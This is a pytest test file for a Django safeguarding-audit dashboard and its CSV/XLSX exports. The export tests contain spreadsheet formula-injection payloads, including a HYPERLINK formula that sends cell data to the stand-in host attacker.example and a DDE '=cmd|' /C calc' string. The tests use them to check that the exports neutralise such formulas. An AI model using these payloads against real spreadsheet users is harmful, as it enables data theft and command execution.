"""The Section 11 dashboard: what the Business Unit, the Executive and the
Scrutineer see of a cycle, and the cycle's data as CSV and XLSX."""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Sequence
from html.parser import HTMLParser

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from django.utils.html import strip_tags

from audits import services
from audits.models import (
    ActionStatus,
    AuditCycle,
    Criterion,
    Framework,
    FrameworkKind,
    Organisation,
    Rating,
    Response,
    Return,
    Role,
    Sector,
    Standard,
    User,
    weakest_rating,
)
from section11 import dashboard
from section11 import services as section11_services
from section11.models import EquivalentForm, EquivalentReturn

from ..conftest import PERSONAS
from ..factories import AgencyFactory, UserFactory, framework_with_criteria, open_cycle

pytestmark = pytest.mark.django_db

G, A, R, NA = Rating.GREEN, Rating.AMBER, Rating.RED, Rating.NOT_APPLICABLE
OVERSIGHT = {"business_unit", "executive", "scrutineer"}
VIEWS = ["section11:cycle_dashboard", "section11:cycle_export_csv", "section11:cycle_export_xlsx"]


# --- Building returns --------------------------------------------------------


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path) -> None:
    # S-CAT documents are saved as evidence; keep them out of the developer's var/media.
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path)},
        },
    }


@pytest.fixture
def author(db: None) -> User:
    # Who saves the answers makes no difference to the figures; one author will do.
    return UserFactory(full_name="Drew Author", roles=[Role.AGENCY_LEAD])


def criteria_of(cycle: AuditCycle) -> list[Criterion]:
    return list(
        Criterion.objects.filter(standard__framework=cycle.framework).order_by(
            "standard__position", "position"
        )
    )


def complete(
    return_obj: Return,
    ratings: Sequence[str],
    actor: User,
    *,
    narratives: Sequence[str] | None = None,
    submit: bool = True,
) -> None:
    """Rate the criteria in framework order, plan an action for each Amber or Red, submit."""
    criteria = criteria_of(return_obj.cycle)
    for index, (criterion, rating) in enumerate(zip(criteria, ratings, strict=True)):
        services.response_save(
            return_obj=return_obj,
            criterion=criterion,
            rating=rating,
            narrative=narratives[index] if narratives else "We do this.",
            not_applicable_reason="Not a service we provide." if rating == NA else "",
            revision=0,
            actor=actor,
        )
        if rating in (A, R):
            services.action_create(
                organisation=return_obj.organisation,
                source_return=return_obj,
                criterion=criterion,
                description=f"Improve {criterion.code}",
                owner="Safeguarding lead",
                due_date=timezone.localdate() + datetime.timedelta(days=90),
                actor=actor,
            )
    if submit:
        services.return_submit(return_obj=return_obj, actor=actor)


def moderate(return_obj: Return, code: str, rating: str, actor: User) -> None:
    response = return_obj.responses.get(criterion__code=code)
    services.response_moderate(response=response, moderated_rating=rating, note="", actor=actor)


def equivalent_for(
    return_obj: Return, actor: User, *, decided_by: User | None = None
) -> EquivalentReturn:
    """A health partner's S-CAT in place of ratings; accepted if someone decides on it."""
    equivalent = section11_services.equivalent_return_submit(
        return_obj=return_obj,
        form=EquivalentForm.SCAT,
        upload=SimpleUploadedFile("s-cat.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"),
        actor=actor,
    )
    if decided_by is None:
        return equivalent
    return section11_services.equivalent_return_decide(
        equivalent=equivalent, accept=True, reason="", actor=decided_by
    )


def cycle_on(
    framework: Framework, organisations: Sequence[Organisation], *, opened_days_ago: int
) -> AuditCycle:
    opens_on = timezone.localdate() - datetime.timedelta(days=opened_days_ago)
    return services.cycle_create(
        framework=framework,
        name=f"Section 11 audit {opens_on.year} ({opened_days_ago} days ago)",
        opens_on=opens_on,
        closes_on=opens_on + datetime.timedelta(days=60),
        organisations=organisations,
        actor=None,
    )


# --- Reading pages -----------------------------------------------------------


class _TableParser(HTMLParser):
    def __init__(self, table_id: str) -> None:
        super().__init__()
        self.table_id = table_id
        self.inside = False
        self.rows: list[list[str]] = []
        self.cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table" and dict(attrs).get("id") == self.table_id:
            self.inside = True
        elif self.inside and tag == "tr":
            self.rows.append([])
        elif self.inside and tag in {"th", "td"}:
            self.cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self.inside = False
        elif self.inside and tag in {"th", "td"} and self.cell is not None:
            self.rows[-1].append(" ".join("".join(self.cell).split()))
            self.cell = None

    def handle_data(self, data: str) -> None:
        if self.cell is not None:
            self.cell.append(data)


def table_rows(html: str, table_id: str) -> list[list[str]]:
    """Each row of one table as the words a reader sees in its cells."""
    parser = _TableParser(table_id)
    parser.feed(html)
    return parser.rows


def visible_text(html: str) -> str:
    return " ".join(strip_tags(html).split())


# --- The annual-report figures -----------------------------------------------

# Ten rated returns over two areas of two criteria (1.1, 1.2, 2.1, 2.2).
# Area 1: 18 Green and 2 Amber, so 90% fully compliant.
# Area 2: 12 Green, 4 Amber, 2 Red and 2 N/A, so 12 of 18 = 67% fully compliant.
RATED_RETURNS = {
    "Agency 01": [G, G, G, G],
    "Agency 02": [G, G, G, G],
    "Agency 03": [G, G, G, G],
    "Agency 04": [G, G, G, G],
    "Agency 05": [G, G, G, G],
    "Agency 06": [G, G, G, G],
    "Agency 07": [G, G, A, A],
    "Agency 08": [G, G, A, A],
    "Agency 09": [G, A, R, NA],
    "Agency 10": [A, G, R, NA],
}


@pytest.fixture
def annual_cycle(author: User, business_unit: User) -> AuditCycle:
    """Eleven of twelve returns received: ten rated, one S-CAT equivalent; one late."""
    agencies = {name: AgencyFactory(name=name) for name in RATED_RETURNS}
    health = AgencyFactory(name="Equivalent Health Trust", sector=Sector.HEALTH_PROVIDER)
    late = AgencyFactory(name="Late Council", sector=Sector.DISTRICT_COUNCIL)
    cycle = open_cycle(
        *agencies.values(), health, late, framework=framework_with_criteria(standards=2)
    )
    for name, ratings in RATED_RETURNS.items():
        complete(cycle.returns.get(organisation=agencies[name]), ratings, author)
    services.return_accept(
        return_obj=cycle.returns.get(organisation=agencies["Agency 01"]), actor=business_unit
    )
    # The late return is all Red, but it has not been submitted, so it must not count.
    complete(cycle.returns.get(organisation=late), [R, R, R, R], author, submit=False)
    # The trust began rating before sending its S-CAT instead: that answer must not count.
    services.response_save(
        return_obj=cycle.returns.get(organisation=health),
        criterion=criteria_of(cycle)[0],
        rating=R,
        narrative="Started before we chose the S-CAT.",
        revision=0,
        actor=author,
    )
    equivalent_for(cycle.returns.get(organisation=health), author, decided_by=business_unit)
    return cycle


def test_headline_counts_received_returns_and_names_the_equivalents(as_persona, annual_cycle):
    html = (
        as_persona("executive")
        .get(reverse("section11:cycle_dashboard", args=[annual_cycle.pk]))
        .content.decode()
    )

    text = visible_text(html)
    assert "11 of 12 returns received" in text
    assert "Including 1 returned S-CAT/SAF equivalent." in text
    assert "the rating figures below come from the other 10 returns" in text
    assert table_rows(html, "returns-by-status")[1:] == [
        ["Not started", "0"],
        ["In progress", "1"],
        ["Submitted", "9"],
        ["Returned for changes", "0"],
        ["Accepted", "2"],
    ]


def test_rating_shares_per_area_are_the_annual_report_figures(as_persona, annual_cycle):
    html = (
        as_persona("business_unit")
        .get(reverse("section11:cycle_dashboard", args=[annual_cycle.pk]))
        .content.decode()
    )

    assert table_rows(html, "area-shares") == [
        [
            "Area",
            "Fully compliant",
            "Green",
            "Amber",
            "Red",
            "N/A",
            "Rated answers",
            "Share of ratings",
        ],
        ["Area 1", "90%", "18 (90%)", "2 (10%)", "0 (0%)", "0 (0%)", "20", ""],
        ["Area 2", "67%", "12 (60%)", "4 (20%)", "2 (10%)", "2 (10%)", "20", ""],
    ]
    # The bars say in words what they draw, and are coloured by class, not style.
    assert (
        '<svg class="rating-bar" role="img" aria-label="Area 2: Green 12 (60%), '
        'Amber 4 (20%), Red 2 (10%), N/A 2 (10%)"' in html
    )
    assert '<rect class="bar-green" x="0.00" y="0" width="60.00" height="10">' in html
    assert "style=" not in html


def test_moderated_view_uses_the_moderated_rating_where_one_was_recorded(
    as_persona, annual_cycle, business_unit
):
    returns = {r.organisation.name: r for r in annual_cycle.returns.select_related("organisation")}
    moderate(returns["Agency 09"], "1.2", G, business_unit)  # Amber confirmed as Green
    moderate(returns["Agency 01"], "2.1", R, business_unit)  # Green moderated down to Red
    url = reverse("section11:cycle_dashboard", args=[annual_cycle.pk])
    client = as_persona("scrutineer")

    moderated = client.get(url, {"view": "moderated"}).content.decode()
    assert table_rows(moderated, "area-shares")[1:] == [
        ["Area 1", "95%", "19 (95%)", "1 (5%)", "0 (0%)", "0 (0%)", "20", ""],
        ["Area 2", "61%", "11 (55%)", "4 (20%)", "3 (15%)", "2 (10%)", "20", ""],
    ]
    assert "Moderated ratings by area" in moderated
    assert '<a class="nav-link active" href="?view=moderated" aria-current="page">' in moderated

    # The self-ratings the agencies gave are still what the default view shows.
    own = client.get(url).content.decode()
    assert table_rows(own, "area-shares")[1][1] == "90%"
    assert table_rows(own, "area-shares")[2][1] == "67%"


def test_selector_figures_exclude_na_from_fully_compliant(annual_cycle):
    figures = dashboard.cycle_dashboard(annual_cycle)

    assert (figures.received, figures.total, figures.equivalents) == (11, 12, 1)
    area_2 = figures.areas[1].self_ratings
    assert (area_2.green, area_2.amber, area_2.red, area_2.not_applicable) == (12, 4, 2, 2)
    assert area_2.fully_compliant == 67
    assert [s.percent for s in area_2.breakdown] == [60, 20, 10, 10]


def test_open_and_overdue_actions_come_from_this_cycles_returns(as_persona, annual_cycle, author):
    returns = {r.organisation.name: r for r in annual_cycle.returns.select_related("organisation")}
    late_action = services.action_create(
        organisation=returns["Agency 10"].organisation,
        source_return=returns["Agency 10"],
        description="Refresh the supervision policy",
        owner="Head of service",
        due_date=timezone.localdate() - datetime.timedelta(days=10),
        actor=author,
    )
    services.action_record_progress(
        action=returns["Agency 07"].actions.first(),
        note="Training delivered.",
        status=ActionStatus.COMPLETED,
        actor=author,
    )
    # An action that did not come from this cycle's returns is not this cycle's.
    services.action_create(
        organisation=returns["Agency 10"].organisation,
        description="Something from another audit",
        owner="Head of service",
        due_date=timezone.localdate() - datetime.timedelta(days=10),
        actor=author,
    )

    html = (
        as_persona("business_unit")
        .get(reverse("section11:cycle_dashboard", args=[annual_cycle.pk]))
        .content.decode()
    )

    # Two each for agencies 7 to 10 and four for the late council, less the one
    # completed, plus the overdue one.
    assert "12 open actions from this cycle's returns, 1 overdue" in visible_text(html)
    assert table_rows(html, "actions-by-agency")[1:] == [
        ["Agency 10", "3", "1"],
        ["Late Council", "4", "0"],
        ["Agency 08", "2", "0"],
        ["Agency 09", "2", "0"],
        ["Agency 07", "1", "0"],
    ]
    assert late_action.is_overdue()


# --- The heat map ------------------------------------------------------------


@pytest.mark.parametrize(
    ("ratings", "expected"),
    [
        ([G, A], A),
        ([G, R, A], R),
        ([A, A], A),
        ([G, NA], G),
        ([NA, NA], ""),
        (["", G], G),
        ([], ""),
    ],
)
def test_an_area_is_rated_by_its_weakest_criterion_ignoring_na(ratings, expected):
    assert weakest_rating(ratings) == expected


@pytest.fixture
def small_cycle(author: User, business_unit: User) -> AuditCycle:
    names = ["Alder Constabulary", "Birch Council", "Cedar Trust", "Damson Health"]
    agencies = {name: AgencyFactory(name=name) for name in names[:3]}
    agencies["Damson Health"] = AgencyFactory(name="Damson Health", sector=Sector.HEALTH_PROVIDER)
    cycle = open_cycle(*agencies.values(), framework=framework_with_criteria(standards=2))
    returns = {name: cycle.returns.get(organisation=agencies[name]) for name in names}
    complete(returns["Alder Constabulary"], [G, R, G, NA], author)
    complete(returns["Birch Council"], [G, G, NA, NA], author)
    complete(returns["Cedar Trust"], [R, R, R, R], author, submit=False)
    equivalent_for(returns["Damson Health"], author, decided_by=business_unit)
    moderate(returns["Alder Constabulary"], "1.2", A, business_unit)
    moderate(returns["Birch Council"], "1.1", R, business_unit)
    return cycle


def test_heat_map_shows_each_received_agencys_area_ratings_in_words(as_persona, small_cycle):
    url = reverse("section11:cycle_dashboard", args=[small_cycle.pk])
    client = as_persona("executive")

    html = client.get(url).content.decode()
    assert table_rows(html, "heat-map") == [
        ["Agency", "Area 1", "Area 2"],
        ["Alder Constabulary Police", "Red", "Green"],
        ["Birch Council Police", "Green", "None"],
        ["Damson Health Health provider", "S-CAT equivalent accepted: no ratings"],
    ]
    assert '<span class="rating rating-red">Red</span>' in html

    moderated = client.get(url, {"view": "moderated"}).content.decode()
    assert "Moderated rating of each area for every agency" in moderated
    assert table_rows(moderated, "heat-map")[1:3] == [
        ["Alder Constabulary Police", "Amber", "Green"],
        ["Birch Council Police", "Red", "None"],
    ]


def test_heat_map_selector_offers_self_and_moderated_variants(small_cycle):
    own = dashboard.heat_map(small_cycle)
    moderated = dashboard.heat_map(small_cycle, moderated=True)

    assert [area.code for area in own.areas] == ["area-1", "area-2"]
    assert [[c.rating for c in row.cells] for row in own.rows] == [
        ["red", "green"],
        ["green", ""],
        [],
    ]
    assert [[c.rating for c in row.cells] for row in moderated.rows][:2] == [
        ["amber", "green"],
        ["red", ""],
    ]
    assert [row.equivalent for row in own.rows] == ["", "", "S-CAT equivalent accepted"]


def test_an_equivalent_awaiting_decision_is_received_without_ratings(as_persona, author):
    health = AgencyFactory(name="Elm Health", sector=Sector.HEALTH_PROVIDER)
    cycle = open_cycle(health, framework=framework_with_criteria())
    equivalent_for(cycle.returns.get(), author)

    html = (
        as_persona("business_unit")
        .get(reverse("section11:cycle_dashboard", args=[cycle.pk]))
        .content.decode()
    )

    text = visible_text(html)
    assert "1 of 1 returns received" in text
    assert (
        "Including 1 returned S-CAT/SAF equivalent (1 awaiting the Business Unit's decision)."
        " They count as received but carry no ratings, so the rating figures below come from"
        " the other 0 returns." in text
    )
    assert table_rows(html, "heat-map")[1] == [
        "Elm Health Health provider",
        "S-CAT equivalent awaiting decision: no ratings",
    ]
    assert table_rows(html, "area-shares")[1][1:] == [
        "No Green, Amber or Red ratings", "0", "0", "0", "0", "0", "No rated answers",
    ]  # fmt: skip


# --- Year on year -------------------------------------------------------------


@pytest.fixture
def two_years(author: User) -> tuple[AuditCycle, AuditCycle]:
    """Last year on version 1 of the framework, this year on version 2 with a new area."""
    agencies = AgencyFactory.create_batch(5)
    cycle_on(framework_with_criteria(standards=2), agencies, opened_days_ago=730)
    last_framework = framework_with_criteria(standards=2, criteria_per_standard=1)
    last_year = cycle_on(last_framework, agencies, opened_days_ago=365)
    # A later cycle of another audit function is not an earlier Section 11 cycle.
    cycle_on(framework_with_criteria(kind=FrameworkKind.SECTION_175), agencies, opened_days_ago=30)

    this_framework = services.framework_new_version(framework=last_framework, actor=None)
    area_3 = services.standard_create(
        framework=this_framework, code="area-3", title="Area 3", position=3, actor=None
    )
    services.criterion_create(standard=area_3, code="3.1", text="Question 3.1", actor=None)
    this_year = open_cycle(*agencies, framework=this_framework)

    # Area 1: 4 of 5 Green last year (80%), all 5 this year (100%).
    # Area 2: 3 of 5 last year (60%), 2 of 5 this year (40%).
    last = [[G, G], [G, G], [G, G], [G, R], [A, R]]
    this = [[G, G, G], [G, G, G], [G, A, G], [G, A, G], [G, A, G]]
    for agency, old, new in zip(agencies, last, this, strict=True):
        complete(last_year.returns.get(organisation=agency), old, author)
        complete(this_year.returns.get(organisation=agency), new, author)
    return last_year, this_year


def test_year_on_year_compares_areas_by_code_with_the_previous_cycle(as_persona, two_years):
    last_year, this_year = two_years

    html = (
        as_persona("business_unit")
        .get(reverse("section11:cycle_dashboard", args=[this_year.pk]))
        .content.decode()
    )

    assert table_rows(html, "year-on-year") == [
        ["Area", last_year.name, this_year.name, "Change"],
        ["Area 1", "80%", "100%", "Up 20 points"],
        ["Area 2", "60%", "40%", "Down 20 points"],
        ["Area 3", "No figure", "100%", "Not comparable"],
    ]


def test_year_on_year_selector(two_years):
    last_year, this_year = two_years

    change = dashboard.year_on_year(this_year)

    assert change is not None
    assert change.previous == last_year
    assert [(a.code, a.then, a.now, a.change) for a in change.areas] == [
        ("area-1", 80, 100, 20),
        ("area-2", 60, 40, -20),
        ("area-3", None, 100, None),
    ]


def test_the_first_cycle_has_nothing_to_compare_with(as_persona, small_cycle):
    assert dashboard.year_on_year(small_cycle) is None
    html = (
        as_persona("business_unit")
        .get(reverse("section11:cycle_dashboard", args=[small_cycle.pk]))
        .content.decode()
    )
    assert "There is no earlier Section 11 cycle to compare with." in html
    assert 'id="year-on-year"' not in html


@pytest.mark.parametrize(
    ("then", "now", "text"),
    [(80, 90, "Up 10 points"), (50, 49, "Down 1 point"), (70, 70, "No change")],
)
def test_change_is_described_in_words(then, now, text):
    assert dashboard.AreaChange("a", "A", then, now).change_text == text


# --- Exports ------------------------------------------------------------------

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


@pytest.fixture
def export_cycle(author: User) -> AuditCycle:
    rated, silent = AgencyFactory(name="Ash Police"), AgencyFactory(name="Yew Council")
    cycle = open_cycle(rated, silent, framework=framework_with_criteria(standards=1))
    return_obj = cycle.returns.get(organisation=rated)
    complete(return_obj, [G, A], author, narratives=[FORMULA, "@SUM(1+1) is how we count"])
    services.action_create(
        organisation=rated,
        source_return=return_obj,
        description="+ train every new starter",
        owner="-Head of HR",
        due_date=timezone.localdate() + datetime.timedelta(days=30),
        actor=author,
    )
    return cycle


def attachment(cycle: AuditCycle, extension: str) -> str:
    today = timezone.localdate().isoformat()
    return f'attachment; filename="section11-{cycle.pk}-{today}.{extension}"'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1254 000000", "'+44 1254 000000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rcarriage", "'\rcarriage"),
        ("We meet monthly = good", "We meet monthly = good"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_safe_cell_makes_would_be_formulas_literal(value, expected):
    assert dashboard.safe_cell(value) == expected


def test_csv_export_lists_every_answer_with_formulas_neutralised(as_persona, export_cycle):
    response = as_persona("executive").get(
        reverse("section11:cycle_export_csv", args=[export_cycle.pk])
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == attachment(export_cycle, "csv")
    assert response["X-Content-Type-Options"] == "nosniff"

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == list(dashboard.RESPONSE_HEADERS)
    assert rows[1] == [
        "Ash Police", "Police", "Submitted", "", "area-1", "Area 1", "1.1", "Question 1.1",
        "Green", "", "'" + FORMULA, "",
    ]  # fmt: skip
    assert rows[2][8:11] == ["Amber", "", "'@SUM(1+1) is how we count"]
    # A return with no answers yet still appears, so every agency is listed.
    assert rows[3][:4] == ["Yew Council", "Police", "Not started", ""]
    assert rows[4] == []
    assert rows[5] == ["Actions"]
    assert rows[6] == list(dashboard.ACTION_HEADERS)
    actions = {row[3]: row for row in rows[7:]}
    assert actions["'+ train every new starter"][4] == "'-Head of HR"
    assert actions["Improve 1.2"][1:3] == ["area-1", "1.2"]


def test_xlsx_export_has_responses_actions_and_summary_and_no_formulas(as_persona, export_cycle):
    response = as_persona("scrutineer").get(
        reverse("section11:cycle_export_xlsx", args=[export_cycle.pk])
    )

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == attachment(export_cycle, "xlsx")
    assert response["X-Content-Type-Options"] == "nosniff"

    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Responses", "Actions", "Summary"]
    responses = list(workbook["Responses"].iter_rows(values_only=True))
    assert responses[0] == dashboard.RESPONSE_HEADERS
    narrative = workbook["Responses"].cell(row=2, column=11)
    assert narrative.value == "'" + FORMULA
    assert narrative.data_type == "s"
    actions = list(workbook["Actions"].iter_rows(values_only=True))
    assert actions[0] == dashboard.ACTION_HEADERS
    assert ("'+ train every new starter", "'-Head of HR") in [row[3:5] for row in actions]
    # Nothing anywhere in the workbook is a formula.
    assert all(
        cell.data_type != "f"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )
    summary = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True) if row}
    assert summary["Returns received"] == "1 of 2"
    assert summary["Open actions"] == 2


def test_xlsx_export_drops_control_characters_that_would_hide_a_formula(author):
    agency = AgencyFactory(name="Oak Police")
    cycle = open_cycle(agency, framework=framework_with_criteria(standards=1))
    complete(cycle.returns.get(), [G, G], author, narratives=["\x01=1+1", "ok\x0b"], submit=False)

    workbook = openpyxl.load_workbook(io.BytesIO(dashboard.export_xlsx(cycle)))

    assert [row[10] for row in workbook["Responses"].iter_rows(min_row=2, values_only=True)] == [
        "'=1+1",
        "ok",
    ]


def test_no_cell_of_either_export_can_become_a_formula_whoever_wrote_its_text(author):
    """Agency names, framework wording and cycle names are stored text too, not only
    what agencies type: every cell of every sheet is neutralised."""
    agency = AgencyFactory(name="=cmd|' /C calc'!A0")
    framework = framework_with_criteria(standards=1)
    framework.name = "-Framework"
    framework.save()
    Standard.objects.filter(framework=framework).update(title="+Leadership")
    Criterion.objects.filter(standard__framework=framework).update(text="@Is it in place?")
    cycle = open_cycle(agency, framework=framework)
    cycle.name = "=Section 11 audit"
    cycle.save()
    complete(cycle.returns.get(), [NA, A], author, narratives=["\t=1+1", "\r=1+1"])
    services.action_create(
        organisation=agency,
        source_return=cycle.returns.get(),
        description='=HYPERLINK("http://attacker.example")',
        owner="@Head of HR",
        due_date=timezone.localdate() + datetime.timedelta(days=30),
        actor=author,
    )
    Response.objects.filter(rating=NA).update(not_applicable_reason="-Not ours")

    rows = list(csv.reader(io.StringIO(dashboard.export_csv(cycle).decode("utf-8-sig"))))
    workbook = openpyxl.load_workbook(io.BytesIO(dashboard.export_xlsx(cycle)))
    cells = [value for row in rows for value in row] + [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]

    assert not [c for c in cells if c.startswith(dashboard.FORMULA_TRIGGERS)]
    for planted in [
        "'=cmd|' /C calc'!A0",
        "'+Leadership",
        "'@Is it in place?",
        "'\t=1+1",
        "'-Not ours",
        "'@Head of HR",
        "'=Section 11 audit",
        "'-Framework",
    ]:
        assert planted in " ".join(cells), planted


# --- Who may see what -------------------------------------------------------


@pytest.mark.parametrize("view", VIEWS)
@pytest.mark.parametrize("persona", PERSONAS)
def test_only_the_oversight_roles_may_see_the_dashboard_and_exports(
    as_persona, small_cycle, persona, view
):
    response = as_persona(persona).get(reverse(view, args=[small_cycle.pk]))
    assert response.status_code == (200 if persona in OVERSIGHT else 404)


@pytest.mark.parametrize("view", VIEWS)
def test_anonymous_visitor_is_sent_to_sign_in(client, small_cycle, view):
    response = client.get(reverse(view, args=[small_cycle.pk]))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("view", VIEWS)
def test_a_cycle_of_another_function_is_not_found(as_persona, agency, view):
    cycle = open_cycle(agency, framework=framework_with_criteria(kind=FrameworkKind.SECTION_175))
    response = as_persona("business_unit").get(reverse(view, args=[cycle.pk]))
    assert response.status_code == 404


def test_the_dashboard_only_reads(as_persona, small_cycle):
    url = reverse("section11:cycle_dashboard", args=[small_cycle.pk])
    assert as_persona("business_unit").post(url).status_code == 405


# --- A bounded number of queries ---------------------------------------------

# Session, user, its two-factor device, roles and cycle, then a fixed number for the figures.
QUERY_BOUND = 16


@pytest.mark.parametrize("agencies", [5, 30])
def test_dashboard_and_exports_run_the_same_bounded_queries_however_many_agencies(
    as_persona, author, business_unit, agencies, django_assert_max_num_queries
):
    organisations = [
        AgencyFactory(sector=Sector.HEALTH_PROVIDER),
        *AgencyFactory.create_batch(agencies - 1),
    ]
    framework = framework_with_criteria(standards=3, criteria_per_standard=2)
    last_year = cycle_on(framework, organisations, opened_days_ago=365)
    this_year = open_cycle(
        *organisations, framework=services.framework_new_version(framework=framework, actor=None)
    )
    for index, organisation in enumerate(organisations):
        ratings = [G, A, G, R, NA, G] if index % 2 else [G, G, G, G, G, A]
        complete(last_year.returns.get(organisation=organisation), ratings, author)
        if index == 0:
            equivalent_for(
                this_year.returns.get(organisation=organisation), author, decided_by=business_unit
            )
            continue
        this_return = this_year.returns.get(organisation=organisation)
        complete(this_return, ratings, author)
        moderate(this_return, "1.1", A, business_unit)

    client = as_persona("executive")
    for name, query in [
        ("section11:cycle_dashboard", {}),
        ("section11:cycle_dashboard", {"view": "moderated"}),
        ("section11:cycle_export_csv", {}),
        ("section11:cycle_export_xlsx", {}),
    ]:
        with django_assert_max_num_queries(QUERY_BOUND):
            response = client.get(reverse(name, args=[this_year.pk]), query)
        assert response.status_code == 200
    assert f"{agencies} of {agencies} returns received" in visible_text(
        client.get(reverse("section11:cycle_dashboard", args=[this_year.pk])).content.decode()
    )
